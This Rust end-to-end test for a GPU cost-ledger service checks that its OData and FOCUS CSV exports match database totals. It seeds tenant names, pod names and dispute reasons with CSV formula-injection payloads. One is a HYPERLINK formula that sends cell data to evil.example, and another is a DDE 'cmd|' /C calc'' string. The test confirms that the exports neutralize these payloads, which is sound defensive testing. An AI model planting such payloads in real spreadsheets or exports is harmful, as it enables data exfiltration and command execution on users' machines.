//! Exports read by outside clients, against the real binary: python-odata (a real OData v4 client) pages
//! through a large closed month of LedgerLines via `@odata.nextLink` with the date-range filter Power BI's
//! incremental refresh sends, and through a closed month filtered by `Period`; its totals equal the CSV's (parsed
//! by Python's `csv`) and the database's. The formula-injection corpus comes back neutralized from every CSV. The
//! FinOps Foundation's focus-validator 1.0.0 accepts `focus.csv?version=1.0`; its validator 2.0.1
//! (`../shared/tools/focus-validator/run`, rule model 1.2) finds no failing rule in the default file (FOCUS 1.3) nor
//! in `version=1.2` but the model's unconditioned `InvoiceId-C-005-C` (see `exports_check.py`).
//!
//! The Python clients live in a virtual environment made by `scripts/lib.sh` (`gl_ensure_python_clients`, run by
//! `scripts/test`): `GL_PYTHON` names its interpreter. The script is `e2e/python/exports_check.py`.
#![allow(clippy::unwrap_used, clippy::expect_used)]

use std::{path::PathBuf, process::Command};

use gpuledger_e2e::{
    fresh_database,
    process::{create_token, start_demo, temp_dir},
};
use serde_json::{Value, json};
use uuid::Uuid;

const EVIL_TENANT: &str = "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"open\")";
const EVIL_POD: &str = "=1+2";
const EVIL_USAGE_TENANT: &str = "+cmd";
const EVIL_REASON: &str = "@SUM(1+1)*cmd|' /C calc'!A0 — we were charged twice";
const BIG_LINES: i64 = 12_345;

/// The interpreter of the venv with python-odata and focus-validator.
fn python() -> PathBuf {
    if let Some(p) = std::env::var_os("GL_PYTHON") {
        return PathBuf::from(p);
    }
    let cache = std::env::var_os("XDG_CACHE_HOME")
        .map(PathBuf::from)
        .or_else(|| std::env::var_os("HOME").map(|h| PathBuf::from(h).join(".cache")))
        .unwrap_or_else(|| PathBuf::from("/tmp"));
    cache.join("gpuledger-python-clients/bin/python")
}

async fn api(http: &reqwest::Client, base: &str, token: &str, method: &str, path: &str, body: Value) -> Value {
    let r = http
        .request(method.parse().unwrap(), format!("{base}{path}"))
        .bearer_auth(token)
        .json(&body)
        .send()
        .await
        .unwrap();
    let status = r.status();
    let text = r.text().await.unwrap();
    assert!(status.is_success(), "{method} {path}: {status} {text}");
    serde_json::from_str(&text).unwrap_or(Value::Null)
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn python_odata_and_focus_validator_agree_with_the_csv_and_the_database() {
    let python = python();
    assert!(
        python.exists(),
        "{} not found: the export tests need python-odata and focus-validator in a venv — run scripts/test, or \
         `. scripts/lib.sh && gl_ensure_python_clients` and set GL_PYTHON",
        python.display()
    );
    let script = PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("python/exports_check.py");
    let db = fresh_database().await.unwrap();
    let dir = temp_dir("gl-e2e-exports").unwrap();
    let mut server = start_demo(&db.admin_url, &dir.join("server.log")).unwrap();
    let admin = create_token(&db.admin_url, "admin").unwrap();
    let export = create_token(&db.admin_url, "export").unwrap();
    let su = sqlx::postgres::PgPoolOptions::new().max_connections(2).connect(&db.admin_url).await.unwrap();
    let http = reqwest::Client::new();
    let base = server.base.clone();

    // -- a month of facts: every demo tenant and one named like a formula, three pods each
    let org: Uuid =
        sqlx::query_scalar("SELECT org_id FROM organizations WHERE slug = 'demo'").fetch_one(&su).await.unwrap();
    let department: Uuid =
        sqlx::query_scalar("SELECT department_id FROM departments WHERE org_id = $1 ORDER BY name LIMIT 1")
            .bind(org)
            .fetch_one(&su)
            .await
            .unwrap();
    sqlx::query("INSERT INTO tenants (org_id, tenant_id, department_id, name, created_at) VALUES ($1, $2, $3, $4, '2025-01-01')")
        .bind(org)
        .bind(Uuid::new_v4())
        .bind(department)
        .bind(EVIL_TENANT)
        .execute(&su)
        .await
        .unwrap();
    let tenants: Vec<(Uuid, String)> =
        sqlx::query_as("SELECT tenant_id, name FROM tenants WHERE org_id = $1 ORDER BY name")
            .bind(org)
            .fetch_all(&su)
            .await
            .unwrap();
    let classes: Vec<String> =
        sqlx::query_scalar("SELECT gpu_class FROM gpu_classes WHERE org_id = $1 ORDER BY gpu_class")
            .bind(org)
            .fetch_all(&su)
            .await
            .unwrap();
    let (class, model): (String, String) =
        sqlx::query_as("SELECT gpu_class, model FROM gpu_models WHERE org_id = $1 ORDER BY gpu_class, model LIMIT 1")
            .bind(org)
            .fetch_one(&su)
            .await
            .unwrap();
    let cluster: Uuid = sqlx::query_scalar("SELECT cluster_id FROM clusters WHERE org_id = $1 ORDER BY name LIMIT 1")
        .bind(org)
        .fetch_one(&su)
        .await
        .unwrap();
    for (i, (tenant, name)) in tenants.iter().enumerate() {
        let ns = Uuid::new_v4();
        sqlx::query("INSERT INTO namespaces (org_id, namespace_uid, cluster_id, name, created_at) VALUES ($1, $2, $3, $4, '2026-01-01')")
            .bind(org)
            .bind(ns)
            .bind(cluster)
            .bind(format!("e2e-{i}"))
            .execute(&su)
            .await
            .unwrap();
        sqlx::query("INSERT INTO namespace_ownership (org_id, namespace_uid, valid_from, tenant_id) VALUES ($1, $2, '2026-01-01', $3)")
            .bind(org)
            .bind(ns)
            .bind(tenant)
            .execute(&su)
            .await
            .unwrap();
        for k in 0..3_i32 {
            let holder = if name == EVIL_TENANT && k == 0 { EVIL_POD.to_string() } else { format!("job-{i}-{k}") };
            sqlx::query(
                "INSERT INTO allocation_intervals (org_id, cluster_id, allocation_id, holder_kind, holder_uid, holder_name,
                     namespace, namespace_uid, container, node, resource, units, gpu_model, gpu_class, sharing_mode,
                     fraction_num, fraction_den, started_at, ended_at, confidence)
                 VALUES ($1, $2, $3, 'pod', $4, $5, $6, $7, 'main', 'node-1', 'nvidia.com/gpu', $8, $9, $10, 'exclusive',
                         $8, 1, '2026-08-01'::timestamptz + make_interval(hours => $11),
                         '2026-08-01'::timestamptz + make_interval(hours => $11 + $12, mins => $13), 'exact')",
            )
            .bind(org)
            .bind(cluster)
            .bind(format!("e2e/{i}/{k}"))
            .bind(Uuid::new_v4())
            .bind(holder)
            .bind(format!("e2e-{i}"))
            .bind(ns)
            .bind(1 + k % 2)
            .bind(&model)
            .bind(&class)
            .bind(i32::try_from(i).unwrap() * 7 + k * 3)
            .bind(5 + k * 11)
            .bind(k * 17)
            .execute(&su)
            .await
            .unwrap();
        }
    }
    let rates: Vec<Value> =
        classes.iter().map(|c| json!({"gpu_class": c, "guaranteed": "2.00", "borrowed": "3.10"})).collect();
    let policy = api(&http, &base, &admin, "POST", "/api/v1/policies", json!({"effective_from": "2026-06", "note": "e2e",
        "policy": {"currency": "USD", "classes": rates,
                   "overhead": {"fixed": [{"name": "platform", "amount": "1234.56"}], "key": {"kind": "allocated_gpu_hours"}}}}))
    .await;
    let version = policy["version"].as_i64().unwrap();
    api(&http, &base, &admin, "POST", &format!("/api/v1/policies/{version}/approve"), json!({"reason": "e2e"})).await;
    api(&http, &base, &admin, "POST", "/api/v1/periods/2026-08/close", json!({})).await;
    let line: String = sqlx::query_scalar(
        "SELECT line_id FROM ledger_lines WHERE org_id = $1 AND period = '2026-08-01' AND term = 'borrowed' ORDER BY line_no LIMIT 1",
    )
    .bind(org)
    .fetch_one(&su)
    .await
    .unwrap();
    api(
        &http,
        &base,
        &admin,
        "POST",
        "/api/v1/disputes",
        json!({"period": "2026-08", "line_ids": [line], "reason": EVIL_REASON}),
    )
    .await;
    sqlx::query(
        "INSERT INTO service_usage (org_id, cluster_id, endpoint, model, tenant_name, window_start, window_end, requests,
                                    input_tokens, output_tokens)
         VALUES ($1, $2, 'llm-shared', 'llama', $3, '2026-08-03 10:00Z', '2026-08-03 11:00Z', 4, 400, 100)",
    )
    .bind(org)
    .bind(cluster)
    .bind(EVIL_USAGE_TENANT)
    .execute(&su)
    .await
    .unwrap();

    // -- a large closed month (June): 12,345 lines with positive and negative amounts, some explanations formulas
    sqlx::query(
        "INSERT INTO periods (org_id, period, state, closed_at, closed_by, policy_version, inventory_version, content_hash,
                              line_count, total_amount, currency, bundle_gz)
         VALUES ($1, '2026-06-01', 'closed', now(), 'e2e', 1, 'e2e', 'e2e-synthetic', $2, 0, 'USD', '\\x00'::bytea)",
    )
    .bind(org)
    .bind(i32::try_from(BIG_LINES).unwrap())
    .execute(&su)
    .await
    .unwrap();
    sqlx::query(
        "WITH t AS (SELECT t.tenant_id, t.name, t.department_id, d.name AS department,
                           row_number() OVER (ORDER BY t.name) - 1 AS rn, count(*) OVER () AS n
                      FROM tenants t JOIN departments d ON d.org_id = t.org_id AND d.department_id = t.department_id
                     WHERE t.org_id = $1)
         INSERT INTO ledger_lines (org_id, period, line_no, line_id, department_id, department, tenant_id, tenant, term,
                                   gpu_class, quantity, unit, rate, amount, currency, confidence, policy_version,
                                   evidence, explanation, canonical)
         SELECT $1, '2026-06-01', i, '2026-06/borrowed/' || t.name || '/' || i, t.department_id, t.department,
                t.tenant_id, t.name, (ARRAY['guaranteed','borrowed','energy','service','overhead'])[1 + i % 5], $2,
                (i % 50) + 0.5, 'GPU-hour', 2.5, round(((i * 7919) % 100000 - 30000) / 100.0, 2), 'USD', 'exact', 1,
                'e2e', CASE WHEN i % 101 = 0 THEN '=SUM(A1:A' || i || ')' ELSE 'line ' || i END, 'e2e ' || i
           FROM generate_series(1, $3) i JOIN t ON t.rn = i % t.n",
    )
    .bind(org)
    .bind(&class)
    .bind(BIG_LINES)
    .execute(&su)
    .await
    .unwrap();

    // -- what the database says
    let total = |period: &'static str| {
        let su = su.clone();
        async move {
            sqlx::query_as::<_, (i64, String)>(
                "SELECT count(*), COALESCE(sum(amount), 0)::text FROM ledger_lines WHERE org_id = $1 AND period = $2::date",
            )
            .bind(org)
            .bind(period)
            .fetch_one(&su)
            .await
            .unwrap()
        }
    };
    let (big_lines, big_total) = total("2026-06-01").await;
    let (month_lines, month_total) = total("2026-08-01").await;
    assert_eq!(big_lines, BIG_LINES);
    assert!(month_lines >= 10, "{month_lines} lines in August");
    let gpu_hours: String = sqlx::query_scalar(
        "SELECT sum(round(fraction_num::numeric * extract(epoch FROM ended_at - started_at) / (fraction_den * 3600), 6))::text
           FROM allocation_intervals WHERE org_id = $1",
    )
    .bind(org)
    .fetch_one(&su)
    .await
    .unwrap();
    // The FinOps Foundation's validator 2.0.1 (rule model 1.2), outside the repository: `../shared/tools/…`.
    let focus_validator = PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("../../shared/tools/focus-validator/run");
    assert!(
        focus_validator.exists(),
        "{} not found (the shared tools sit beside the repository)",
        focus_validator.display()
    );
    let expect = json!({
        "base": base, "token": export, "dir": dir,
        "big_period": "2026-06", "big_start": "2026-06-01T00:00:00+00:00", "big_end": "2026-07-01T00:00:00+00:00",
        "big_lines": big_lines, "big_total": big_total, "big_injected": BIG_LINES / 101,
        "month": "2026-08", "month_lines": month_lines, "month_total": month_total, "month_gpu_hours": gpu_hours,
        "evil_tenant": EVIL_TENANT, "evil_pod": EVIL_POD, "evil_usage_tenant": EVIL_USAGE_TENANT, "evil_reason": EVIL_REASON,
        "focus_validator": focus_validator,
    });
    let expect_path = dir.join("expect.json");
    std::fs::write(&expect_path, serde_json::to_vec_pretty(&expect).unwrap()).unwrap();

    let out = Command::new(&python).arg(&script).arg(&expect_path).output().unwrap();
    let stdout = String::from_utf8_lossy(&out.stdout);
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(out.status.success(), "{}\n{stdout}\n{stderr}\nserver log:\n{}", script.display(), server.log_text());
    let summary: Value = serde_json::from_str(stdout.lines().last().unwrap_or_default()).unwrap();
    assert_eq!(summary["odata"]["big_lines"], BIG_LINES, "{summary}");
    assert!(summary["odata"]["big_pages"].as_i64().unwrap() >= 3, "{summary}");
    assert_eq!(summary["odata"]["big_total"].as_str(), Some(big_total.as_str()), "{summary}");
    assert_eq!(summary["focus"]["validator"], "Validation succeeded.", "{summary}");
    eprintln!("{summary}");

    server.stop("INT", std::time::Duration::from_secs(30)).unwrap();
    let _ = std::fs::remove_dir_all(&dir);
}
